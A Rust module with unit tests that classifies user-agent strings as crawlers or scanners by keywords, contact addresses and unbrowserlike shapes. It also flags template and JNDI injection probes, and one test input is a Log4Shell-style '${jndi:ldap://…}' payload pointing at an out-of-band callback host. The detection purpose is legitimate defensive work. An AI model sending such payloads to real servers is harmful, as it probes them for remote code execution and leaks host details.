//! Generic marks of automation in a user agent, for the crawlers, monitors and scanners that
//! no table names: a word such as `bot`, `crawl` or `scan`, a web or email address to write
//! to, or a shape no browser sends. They are asked only after the preview and in-app
//! markers, so a known fetcher or an app's WebView keeps its own class.
//!
//! Tried against some 32,000 user agents of real browsers and in-app browsers
//! (docs/classification.md): phones named `CUBOT`, `M bot 54` or `Spider 8` are the traps, and
//! they sit in the platform comment of an Android user agent, which the words skip.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

/// Words that name what a program does, never what a browser is.
const WORDS: [&str; 9] = [
    "crawl", "spider", "scrap", "scan", "monitor", "check", "audit", "research", "robot",
];

static AUTOMATON: LazyLock<AhoCorasick> =
    LazyLock::new(|| AhoCorasick::new(WORDS).expect("generic words build an automaton"));

/// Whether a lowercased user agent carries a generic mark of automation.
pub fn automated(lower: &[u8]) -> bool {
    let (before, after) = around_android_platform(lower);
    [before, after]
        .into_iter()
        .any(|part| AUTOMATON.is_match(part) || names_a_bot(part))
        || contains(lower, b"http://")
        || contains(lower, b"https://")
        || has_email_address(lower)
        || only_a_name(lower)
        || contains(lower, b"like gecko; ")
        // Template and JNDI injection probes (`${jndi:ldap://…}`, `{{…}}`) are scanners.
        || contains(lower, b"${")
        || contains(lower, b"{{")
}

/// The text before and after the first parenthesised comment that names Android: that
/// comment holds the device model, and phone makers name models with any word.
fn around_android_platform(lower: &[u8]) -> (&[u8], &[u8]) {
    let Some(android) = find(lower, b"android") else {
        return (lower, &[]);
    };
    let open = lower[..android].iter().rposition(|&b| b == b'(');
    let close = lower[android..].iter().position(|&b| b == b')');
    match (open, close) {
        (Some(open), Some(close)) => (&lower[..open], &lower[android + close + 1..]),
        _ => (lower, &[]),
    }
}

/// `bot` at the end of a word: `googlebot/2.1`, `ahrefsbot;`, `feed bot)`; not `botswana` or
/// `abbott`.
fn names_a_bot(text: &[u8]) -> bool {
    let mut rest = text;
    while let Some(at) = find(rest, b"bot") {
        let next = rest.get(at + 3);
        if !next.is_some_and(|b| b.is_ascii_alphabetic()) {
            return true;
        }
        rest = &rest[at + 3..];
    }
    false
}

/// `name@host.tld`: a crawler's contact address.
fn has_email_address(lower: &[u8]) -> bool {
    let is_local = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-');
    lower.iter().enumerate().any(|(at, &b)| {
        if b != b'@' || at == 0 || !is_local(&lower[at - 1]) {
            return false;
        }
        let host: Vec<&[u8]> = lower[at + 1..]
            .split(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-')))
            .next()
            .unwrap_or_default()
            .split(|&b| b == b'.')
            .collect();
        host.len() >= 2
            && host.iter().all(|label| !label.is_empty())
            && host
                .last()
                .is_some_and(|tld| tld.len() >= 2 && tld.iter().all(u8::is_ascii_alphabetic))
    })
}

/// `Mozilla/5.0 Name/1.0` or `Mozilla/5.0 (compatible; Name/1.0)` and nothing else: browsers
/// name their platform, and the old ones that say `compatible` go on with `MSIE …; Windows …`.
fn only_a_name(lower: &[u8]) -> bool {
    let Some(rest) = lower.strip_prefix(b"mozilla/") else {
        return false;
    };
    let mut words = rest.split(|&b| b == b' ');
    let (_version, name, more) = (words.next(), words.next(), words.next());
    if name.is_some_and(|name| !name.is_empty() && !name.contains(&b'(')) && more.is_none() {
        return true;
    }
    let Some(open) = find(rest, b" (compatible;") else {
        return false;
    };
    let comment = &rest[open + b" (compatible;".len()..];
    comment.last() == Some(&b')')
        && !comment[..comment.len() - 1]
            .iter()
            .any(|&b| matches!(b, b';' | b'(' | b')'))
        && !rest[..open].contains(&b' ')
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    find(haystack, needle).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn marked(user_agent: &str) -> bool {
        automated(user_agent.to_ascii_lowercase().as_bytes())
    }

    #[test]
    fn words_addresses_and_shapes_mark_automation() {
        for user_agent in [
            "Mozilla/5.0 (compatible; VoilaBot BETA 1.2; +http://www.voila.com/)",
            "Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)",
            "grub-client-1.5.3; (grub-client-1.5.3; Crawl your own stuff with http://grub.org)",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36 PageChecker/2.0",
            "Mozilla/5.0 (compatible; TrendsmapResolver/0.1)",
            "Mozilla/5.0 SeznamEmailProxy/2.0.174",
            "${jndi:ldap://${hostName}.useragent.example.oast.me}",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google-Sites-Thumbnails) Chrome/120.0.6099.71 Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 SiteAuditBot/0.97",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0) WebScanner",
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 (compatible; SomeNewbot/2.1)",
        ] {
            assert!(marked(user_agent), "{user_agent}");
        }
    }

    #[test]
    fn phones_and_browsers_named_with_such_words_are_people() {
        for user_agent in [
            "Mozilla/5.0 (Linux; Android 10; CUBOT J9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.152 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; Banca Caboto s.p.a.; rv:11.0) like Gecko",
            "Mozilla/5.0 (Linux; Android 12; OrangeBotswana) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
            "Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.4 (like Gecko)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 (Ecosia ios@3.0.1.533)",
        ] {
            assert!(!marked(user_agent), "{user_agent}");
        }
    }
}
